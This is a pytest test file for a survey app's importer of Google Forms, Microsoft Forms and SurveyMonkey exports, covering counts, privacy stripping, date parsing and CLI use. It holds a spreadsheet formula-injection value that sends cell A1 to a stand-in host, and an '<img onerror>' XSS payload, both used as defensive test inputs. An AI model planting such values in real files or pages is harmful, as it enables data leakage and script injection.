"""Importing responses from Google Forms, Microsoft Forms and SurveyMonkey exports."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func
from sqlalchemy import select

from engage.audit.models import AuditEvent
from engage.clock import utcnow
from engage.errors import Conflict
from engage.errors import ValidationError
from engage.extensions import db
from engage.imports.tabular import TableError
from engage.surveys import services as survey_services
from engage.surveys.models import Answer
from engage.surveys.models import QuestionKind
from engage.surveys.models import Response
from engage.surveys.models import ResponseSource
from engage.surveys.models import SurveyStatus
from engage.surveys.results.importing import apply_responses
from engage.surveys.results.importing import confirm_responses
from engage.surveys.results.importing import prepare_responses
from engage.surveys.results.importing import preview_responses
from engage.surveys.results.importing import recheck_responses
from engage.surveys.results.tool_exports import Tool
from engage.surveys.results.tool_exports import date_order
from engage.surveys.results.tool_exports import parse_day
from engage.surveys.results.tool_exports import split_choices

from .helpers import make_survey
from .helpers import question

FIXTURES = Path(__file__).parents[2] / "fixtures" / "surveys"
FILES = [
    f"{tool}.{ext}"
    for tool in ("google", "microsoft", "surveymonkey")
    for ext in ("csv", "xlsx")
]


def _import(survey, name: str, **kwargs):
    with (FIXTURES / name).open("rb") as source:
        preview = apply_responses(
            survey, source, name, mapping=None, actor="test", now=utcnow(), **kwargs
        )
    db.session.commit()
    return preview


def _answers(survey, kind: QuestionKind) -> list[Answer]:
    q = question(survey, kind)
    return list(db.session.scalars(select(Answer).where(Answer.question_id == q.id)))


@pytest.mark.parametrize("name", FILES)
def test_each_tool_export_imports_the_right_counts(name: str) -> None:
    survey = make_survey()
    preview = _import(survey, name)
    assert preview.tool == Tool(name.split(".")[0]).label
    assert (preview.created, preview.unchanged, preview.error_count) == (6, 0, 0)
    responses = list(
        db.session.scalars(select(Response).order_by(Response.submitted_on))
    )
    assert len(responses) == 6
    assert {r.source for r in responses} == {ResponseSource.IMPORT}
    assert [r.submitted_on for r in responses][:2] == [date(2024, 3, 15)] * 2
    assert responses[-1].submitted_on == date(2024, 3, 20)
    # Blanks stay blank: one single choice, one Likert, one rating, one number
    # and one comment are left empty; one respondent ticks nothing.
    single = _answers(survey, QuestionKind.SINGLE_CHOICE)
    assert len(single) == 5
    ticked = _answers(survey, QuestionKind.MULTIPLE_CHOICE)
    assert len(ticked) == 8
    labels = {
        c.id: c.label for c in question(survey, QuestionKind.MULTIPLE_CHOICE).choices
    }
    assert (
        sorted(labels[a.choice_id] for a in ticked).count("Walk-in centre, urgent care")
        == 1
    )
    assert sorted(
        a.number for a in _answers(survey, QuestionKind.LIKERT_AGREEMENT)
    ) == [2, 3, 4, 4, 5]
    assert sorted(a.number for a in _answers(survey, QuestionKind.RATING_0_10)) == [
        4,
        7,
        8,
        9,
        10,
    ]
    assert sorted(a.number for a in _answers(survey, QuestionKind.NUMBER)) == [
        0,
        2.5,
        3,
        5,
        12,
    ]
    comments = {a.text for a in _answers(survey, QuestionKind.LONG_TEXT)}
    assert '=HYPERLINK("http://x/?"&A1,"x")' in comments
    assert len(comments) == 5


@pytest.mark.parametrize("name", FILES)
def test_importing_the_same_file_twice_adds_nothing(name: str) -> None:
    survey = make_survey()
    _import(survey, name)
    again = _import(survey, name)
    assert (again.created, again.unchanged) == (0, 6)
    assert db.session.scalar(select(func.count()).select_from(Response)) == 6
    assert (
        db.session.scalar(select(func.count()).select_from(Answer))
        == 5 + 8 + 5 + 5 + 5 + 5
    )


@pytest.mark.parametrize("name", FILES)
def test_imported_responses_keep_no_email_name_or_ip(name: str) -> None:
    survey = make_survey()
    preview = _import(survey, name)
    stored = " ".join(
        str(v)
        for row in db.session.execute(select(Response.__table__)).all()
        + db.session.execute(select(Answer.__table__)).all()
        for v in row
    )
    for personal in ("ann@example.org", "Ann", "192.0.2.1", "Smith"):
        assert personal not in stored
    assert any("mail" in d.lower() for d in preview.dropped)
    assert all(r.member_id is None for r in db.session.scalars(select(Response)))


@pytest.mark.parametrize("name", FILES)
def test_an_upload_awaiting_confirmation_keeps_no_email_name_or_ip(
    name: str, cast
) -> None:
    survey = make_survey()
    content = (FIXTURES / name).read_bytes()
    preview, pending = prepare_responses(
        survey, name, content, actor=cast["officer"], now=utcnow()
    )
    assert pending is not None
    for personal in (b"ann@example.org", b"Ann", b"192.0.2.1", b"Smith"):
        assert personal not in pending.content
    # The copy reads as the upload did: same tool, columns and rows.
    again = recheck_responses(survey, pending, preview.mapping)
    assert (again.tool, again.columns, again.rows_read) == (
        preview.tool,
        preview.columns,
        preview.rows_read,
    )
    assert [r.row for r in again.rows] == [r.row for r in preview.rows]


def test_responses_are_not_imported_into_a_draft() -> None:
    survey = make_survey()
    survey.status = SurveyStatus.DRAFT
    db.session.commit()
    with (FIXTURES / "google.csv").open("rb") as source:
        preview = preview_responses(survey, source, "google.csv")
    assert preview.file_error is not None
    assert preview.file_error.startswith("Open the survey before importing")
    with (
        pytest.raises(ValidationError, match="Open the survey"),
        (FIXTURES / "google.csv").open("rb") as source,
    ):
        apply_responses(
            survey, source, "google.csv", mapping=None, actor="test", now=utcnow()
        )
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0


def test_a_draft_with_responses_keeps_its_questions(cast) -> None:
    # Responses imported into a draft before imports needed an open survey.
    survey = make_survey()
    _import(survey, "google.csv")
    survey.status = SurveyStatus.DRAFT
    db.session.commit()
    text = question(survey, QuestionKind.LONG_TEXT)
    answers = len(_answers(survey, QuestionKind.LONG_TEXT))
    with pytest.raises(Conflict, match="This draft has 6 responses"):
        survey_services.delete_question(text, actor=cast["officer"], now=utcnow())
    data = survey_services.QuestionData(kind=QuestionKind.NUMBER, text=text.text)
    with pytest.raises(Conflict, match="without losing answers"):
        survey_services.update_question(text, data, actor=cast["officer"], now=utcnow())
    db.session.rollback()
    assert len(_answers(survey, QuestionKind.LONG_TEXT)) == answers > 0


def test_a_bad_row_imports_nothing_and_names_the_row() -> None:
    survey = make_survey()
    text = (FIXTURES / "google.csv").read_text(encoding="utf-8").splitlines()
    text[2] = text[2].replace("Website", "<img src=x onerror=alert(1)>", 1)
    text[4] = text[4].replace(",7,", ",eleven,", 1)
    content = ("\n".join(text) + "\n").encode()
    preview = preview_responses(survey, io.BytesIO(content), "broken.csv")
    assert not preview.is_valid
    assert [e.row for e in preview.errors] == [3, 5]
    assert "<img src=x onerror=alert(1)>" in preview.errors[0].message
    with pytest.raises(ValidationError, match="row 3"):
        apply_responses(
            survey,
            io.BytesIO(content),
            "broken.csv",
            mapping=None,
            actor="t",
            now=utcnow(),
        )
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0


def test_a_row_that_answers_nothing_is_not_a_response() -> None:
    survey = make_survey()
    text = (FIXTURES / "google.csv").read_text(encoding="utf-8").splitlines()
    text.append("16/03/2024 09:00:00,,,,,,,")
    content = ("\n".join(text) + "\n").encode()
    preview = preview_responses(survey, io.BytesIO(content), "blank.csv")
    last = len(text)
    assert [e.row for e in preview.errors] == [last]
    assert "Answers none of the survey's questions" in preview.errors[0].message
    assert last not in [planned.row for planned in preview.rows]


def test_an_answer_off_the_scale_says_what_the_scale_takes() -> None:
    survey = make_survey()
    text = (FIXTURES / "google.csv").read_text(encoding="utf-8").splitlines()
    text[1] = text[1].replace(",Agree,", ",Neutral,", 1)
    content = ("\n".join(text) + "\n").encode()
    preview = preview_responses(survey, io.BytesIO(content), "scale.csv")
    (error,) = preview.errors
    assert "“Neutral” is not an answer to it: the answers are Strongly disagree, " in (
        error.message
    )
    assert error.message.endswith(" or Strongly agree.")


def test_an_import_is_audited_without_personal_data() -> None:
    survey = make_survey()
    _import(survey, "microsoft.csv")
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.entity_type == "survey_response")
    ).one()
    assert (
        event.summary
        == "import responses (Microsoft Forms): 6 added, 0 already imported"
    )


def test_a_column_can_be_left_out_of_the_mapping() -> None:
    survey = make_survey()
    with (FIXTURES / "google.csv").open("rb") as source:
        first = preview_responses(survey, source, "google.csv")
    mapping = dict(first.mapping)
    comments = question(survey, QuestionKind.LONG_TEXT).id
    key = next(k for k, v in mapping.items() if v == comments)
    mapping[key] = None
    with (FIXTURES / "google.csv").open("rb") as source:
        apply_responses(
            survey, source, "google.csv", mapping=mapping, actor="t", now=utcnow()
        )
    assert _answers(survey, QuestionKind.LONG_TEXT) == []
    assert len(_answers(survey, QuestionKind.SINGLE_CHOICE)) == 5


def test_an_unknown_file_layout_is_refused_clearly() -> None:
    survey = make_survey()
    preview = preview_responses(survey, io.BytesIO(b"name,answer\nx,y\n"), "other.csv")
    assert preview.file_error is not None
    assert "Google Forms" in preview.file_error


@pytest.mark.parametrize(
    ("text", "dayfirst", "expected"),
    [
        ("05/03/2024 10:22:13", True, date(2024, 3, 5)),
        ("3/5/24 10:22:13", False, date(2024, 3, 5)),
        ("2024-03-05 10:22:13", True, date(2024, 3, 5)),
        ("2024/03/05 10:22:13 AM GMT", False, date(2024, 3, 5)),
        ("31/02/2024", True, None),
        ("soon", True, None),
    ],
)
def test_tool_timestamps_are_read_as_days(
    text: str, dayfirst: bool, expected: date | None
) -> None:
    assert parse_day(text, dayfirst=dayfirst) == expected


@pytest.mark.parametrize(
    ("tool", "values", "expected"),
    [
        # Microsoft Forms' "3/5/24" beside "3/15/24": the column says month first.
        (Tool.MICROSOFT, ["3/5/24 9:14:02", "3/15/24 10:00:00"], False),
        (Tool.GOOGLE, ["05/03/2024 10:22", "25/03/2024 11:00"], True),
        # Every day 12 or less: the file cannot tell.
        (Tool.MICROSOFT, ["3/5/24 9:14:02", "4/6/24 10:00:00"], None),
        (Tool.GOOGLE, ["05/03/2024 10:22"], None),
        # SurveyMonkey always writes month first; a date that reads the same either
        # way, or an ISO one, decides nothing.
        (Tool.SURVEYMONKEY, ["03/05/2024 10:22"], False),
        (Tool.MICROSOFT, ["3/3/24 9:14:02", "2024-03-05 10:00:00"], True),
    ],
)
def test_the_date_order_is_judged_on_the_whole_column(
    tool: Tool, values: list[str], expected: bool | None
) -> None:
    assert date_order(tool, values) is expected


def test_a_column_written_in_both_orders_is_refused() -> None:
    with pytest.raises(TableError, match="written in two orders"):
        date_order(Tool.GOOGLE, ["25/03/2024 10:22", "03/25/2024 10:22"])


def _microsoft(*moments: str) -> bytes:
    lines = ["ID,Start time,Completion time,Email,Name,Any other comments?"]
    lines += [
        f"{n},{moment},{moment},p{n}@example.org,P{n},Comment {n}"
        for n, moment in enumerate(moments, start=1)
    ]
    return ("\r\n".join(lines) + "\r\n").encode()


def test_dates_that_read_either_way_are_asked_about_and_remembered(cast) -> None:
    survey = make_survey()
    ambiguous = _microsoft("3/5/24 9:14:02", "4/6/24 10:00:00")
    preview, pending = prepare_responses(
        survey, "ms.csv", ambiguous, actor=cast["officer"], now=utcnow()
    )
    assert pending is not None
    assert preview.date_example == "3/5/24 9:14:02"
    assert preview.date_readings() == ("3 May 2024", "5 March 2024")
    assert preview.day_first is None
    assert preview.file_error is not None
    assert preview.file_error.startswith("Say how the dates are written")
    assert preview.rows == []

    mapping = preview.mapping
    month_first = recheck_responses(survey, pending, mapping, day_first=False)
    assert month_first.is_valid
    done = confirm_responses(
        survey, pending, mapping, actor=cast["officer"], now=utcnow(), day_first=False
    )
    db.session.commit()
    assert done.created == 2
    days = sorted(r.submitted_on for r in db.session.scalars(select(Response)))
    assert days == [date(2024, 3, 5), date(2024, 4, 6)]
    assert survey.import_day_first is False

    # The next file that cannot tell is read the same way, still showing the choice.
    later, _ = prepare_responses(
        survey,
        "ms2.csv",
        _microsoft("5/7/24 8:00:00"),
        actor=cast["officer"],
        now=utcnow(),
    )
    assert later.date_example
    assert later.day_first is False
    assert later.is_valid
    assert [r.draft.submitted_on for r in later.rows] == [date(2024, 5, 7)]


def test_a_file_that_tells_its_date_order_is_not_asked_about(cast) -> None:
    survey = make_survey()
    preview, _ = prepare_responses(
        survey,
        "ms.csv",
        _microsoft("3/5/24 9:14:02", "3/15/24 10:00:00"),
        actor=cast["officer"],
        now=utcnow(),
    )
    assert preview.is_valid
    assert preview.date_example == ""
    assert [r.draft.submitted_on for r in preview.rows] == [
        date(2024, 3, 5),
        date(2024, 3, 15),
    ]
    assert survey.import_day_first is None


def test_ticked_options_split_even_with_the_separator_inside_an_option() -> None:
    labels = ["GP surgery", "Walk-in centre, urgent care", "A&E"]
    assert split_choices("Walk-in centre, urgent care, A&E", labels, ", ") == (
        ["Walk-in centre, urgent care", "A&E"],
        [],
    )
    assert split_choices("GP surgery, Dentist", labels, ", ") == (
        ["GP surgery"],
        ["Dentist"],
    )


def test_cli_imports_responses_with_a_dry_run_first(app) -> None:
    survey = make_survey()
    runner = app.test_cli_runner()
    path = str(FIXTURES / "surveymonkey.xlsx")
    dry = runner.invoke(args=["import", "responses", str(survey.id), path, "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "File from: SurveyMonkey" in dry.output
    assert "To add: 6" in dry.output
    assert "Dry run: nothing was saved." in dry.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0
    done = runner.invoke(args=["import", "responses", str(survey.id), path])
    assert done.exit_code == 0, done.output
    assert "Imported responses: 6 added, 0 already imported." in done.output
    again = runner.invoke(args=["import", "responses", str(survey.id), path])
    assert "0 added, 6 already imported" in again.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 6


def test_cli_map_leaves_a_column_out(app) -> None:
    survey = make_survey()
    result = app.test_cli_runner().invoke(
        args=[
            "import",
            "responses",
            str(survey.id),
            str(FIXTURES / "google.csv"),
            "--map",
            "Any other comments?=-",
        ]
    )
    assert result.exit_code == 0, result.output
    assert "Column “Any other comments?” → not imported" in result.output
    assert _answers(survey, QuestionKind.LONG_TEXT) == []


def test_cli_refuses_a_broken_file_and_saves_nothing(app, tmp_path) -> None:
    survey = make_survey()
    broken = tmp_path / "broken.csv"
    text = (FIXTURES / "google.csv").read_text(encoding="utf-8")
    broken.write_text(text.replace(",Agree,", ",Maybe,", 1), encoding="utf-8")
    result = app.test_cli_runner().invoke(
        args=["import", "responses", str(survey.id), str(broken)]
    )
    assert result.exit_code == 1
    assert "Row 2:" in result.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0


@pytest.mark.parametrize("tool", ["google", "microsoft", "surveymonkey"])
def test_the_csv_and_xlsx_of_one_export_are_the_same_responses(tool: str) -> None:
    survey = make_survey()
    _import(survey, f"{tool}.csv")
    again = _import(survey, f"{tool}.xlsx")
    assert (again.created, again.unchanged) == (0, 6)
